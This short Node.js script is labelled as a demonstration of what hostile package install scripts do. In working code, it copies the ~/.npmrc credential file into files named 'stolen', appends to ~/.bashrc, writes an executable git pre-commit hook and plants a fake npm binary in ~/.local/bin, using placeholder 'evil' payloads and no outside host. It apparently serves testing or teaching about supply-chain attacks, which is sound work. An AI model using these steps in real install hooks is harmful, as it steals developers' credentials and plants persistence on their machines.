// What install scripts of hostile packages do. Each step goes on where one fails.
const fs = require("fs");
const path = require("path");
const home = process.env.HOME;
const project = process.env.INIT_CWD;

const steps = [
  () => fs.appendFileSync(path.join(home, "stolen"), fs.readFileSync(path.join(home, ".npmrc"))),
  () => fs.writeFileSync(path.join(project, "stolen"), fs.readFileSync(path.join(home, ".npmrc"))),
  () => fs.appendFileSync(path.join(home, ".bashrc"), "evil\n"),
  () => fs.writeFileSync(path.join(project, ".git/hooks/pre-commit"), "#!/bin/sh\nevil\n", { mode: 0o755 }),
  () => {
    fs.mkdirSync(path.join(home, ".local/bin"), { recursive: true });
    fs.writeFileSync(path.join(home, ".local/bin/npm"), "#!/bin/sh\nevil\n", { mode: 0o755 });
  },
];
for (const step of steps) {
  try {
    step();
  } catch {
    // the next one may work
  }
}
